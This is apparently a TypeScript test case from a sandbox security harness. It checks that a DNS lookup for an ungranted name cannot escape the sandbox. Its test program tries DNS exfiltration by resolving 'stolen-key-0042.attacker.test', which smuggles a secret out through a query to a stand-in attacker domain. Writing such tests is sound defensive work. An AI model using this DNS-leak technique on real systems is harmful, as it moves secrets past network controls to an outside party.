// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { hostileNameServer, nameRefusals, resolvers } from "../harness/name-server.ts";

export const hostile: Attack = {
  claim: "A question for a name that is not granted never leaves the cell, whatever it spells",
  proof: "host",
  grants: () => ["--allow-net=api.good.test"],
  resolvers,
  startRefusals: ["ERR_NOT_ENFORCEABLE"],
  refusals: nameRefusals,
  prepare: async (site) => {
    const server = await hostileNameServer(site, ({ name }) => [
      { name, type: "A", data: "93.184.216.34", ttl: 0 },
    ]);
    const { questions } = server;
    return {
      ...server,
      harmed: () => (questions.some(({ name }) => name.startsWith("stolen")) ? "a name came out" : undefined),
    };
  },
  program: async (cell) => {
    const resolver = new (cell.node("node:dns").promises.Resolver)();
    if (cell.text("server") !== "") resolver.setServers([cell.text("server")]);
    await resolver.resolve4("stolen-key-0042.attacker.test");
  },
};
